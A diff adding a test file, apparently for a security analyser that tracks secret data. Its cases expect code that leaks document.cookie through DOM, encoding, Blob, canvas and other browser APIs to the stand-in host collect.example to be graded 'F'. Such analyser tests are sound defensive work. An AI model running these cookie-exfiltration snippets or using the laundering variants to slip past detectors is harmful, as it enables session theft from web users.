@@ -1,0 +1,73 @@
+import { expect, it } from 'vitest';
+import { graded } from '../testing/graded.ts';
+
+/* What is put into an object of the platform comes out of it in another form: `K` is a secret, and in the twin it is not. */
+
+const SEND = "const send = (body) => fetch('https://collect.example/', { method: 'POST', body });";
+
+it.each([
+  [
+    'a text as markup',
+    "const esc = (s) => { const d = document.createElement('div'); d.textContent = s; return d.innerHTML; }; send(esc(K));",
+  ],
+  [
+    'a text of a node as markup',
+    "function esc(s) { var d = document.createElement('div'); d.appendChild(document.createTextNode(s)); return d.innerHTML; } send(esc(K));",
+  ],
+  ['a text that is appended', "const p = document.createElement('p'); p.append(K); send(p.textContent);"],
+  [
+    'markup as a text',
+    "const dec = (s) => { const t = document.createElement('textarea'); t.innerHTML = s; return t.value; }; send(dec(K));",
+  ],
+  ['an attribute', "const p = document.createElement('p'); p.setAttribute('data-a-b', K); send(p.dataset.aB);"],
+  [
+    'a file’s reader that is `this`',
+    'const r = new FileReader(); r.onload = function () { send(this.result); }; r.readAsText(new Blob([K]));',
+  ],
+  ['bytes', 'const b = new Uint8Array(99); new TextEncoder().encodeInto(K, b); send(b);'],
+  ['the address of a file', 'fetch(URL.createObjectURL(new Blob([K]))).then((r) => r.text()).then(send);'],
+  [
+    'the address of a picture',
+    "const c = document.createElement('canvas'); c.getContext('2d').fillText(K, 0, 0); fetch(c.toDataURL()).then((r) => r.blob()).then(send);",
+  ],
+  ['an answer', 'Response.json({ K }).text().then(send);'],
+  ['a mark', "send(performance.mark('a', { detail: K }).detail);"],
+  ['the name of a symbol', 'send(Symbol(K).description);'],
+  ['an encoded text, as a path', "fetch(new URL(btoa(K), 'https://collect.example/'));"],
+  [
+    'an encoded text, as what a client asks for',
+    "const api = axios.create({ baseURL: 'https://collect.example/' }); api.get(encodeURIComponent(K));",
+  ],
+  ['a choice', 'send(new Option(K).text);'],
+])('%s', async (_, program) => {
+  expect(await graded({ content: `${SEND} const K = document.cookie; ${program}` })).toBe('F');
+});
+
+it.each([
+  [
+    'another attribute',
+    "const p = document.createElement('p'); p.dataset.a = K; p.setAttribute('data-b', '1'); send(p.dataset.b);",
+  ],
+  [
+    'the same attribute of another element',
+    "const p = document.createElement('p'); p.setAttribute('data-a', K); const q = document.createElement('p'); send(q.getAttribute('data-a'));",
+  ],
+  [
+    'the text of another element',
+    "const p = document.createElement('p'); p.textContent = K; const q = document.createElement('p'); q.textContent = '1'; send(q.innerHTML);",
+  ],
+  [
+    'a link that is resolved',
+    "const a = document.querySelector('a').getAttribute('href'); fetch(new URL(a, 'https://collect.example/'));",
+  ],
+  ['what is asked for by an address', 'fetch(K).then((r) => r.text());'],
+])('not %s', async (_, program) => {
+  expect(await graded({ content: `${SEND} const K = document.cookie; ${program}` })).toMatch(/^A/);
+});
+
+it('a text that was made markup puts none into the page', async () => {
+  const shown = (form: string): string =>
+    `window.addEventListener('message', ({ data }) => { const d = document.createElement('div'); ${form} document.body.innerHTML = d.OUT; });`;
+  const grade = (form: string, out: string): Promise<string> => graded({ content: shown(form).replace('OUT', out) });
+  expect(await grade('d.textContent = data;', 'innerHTML')).toBe(await grade('', 'title'));
+});
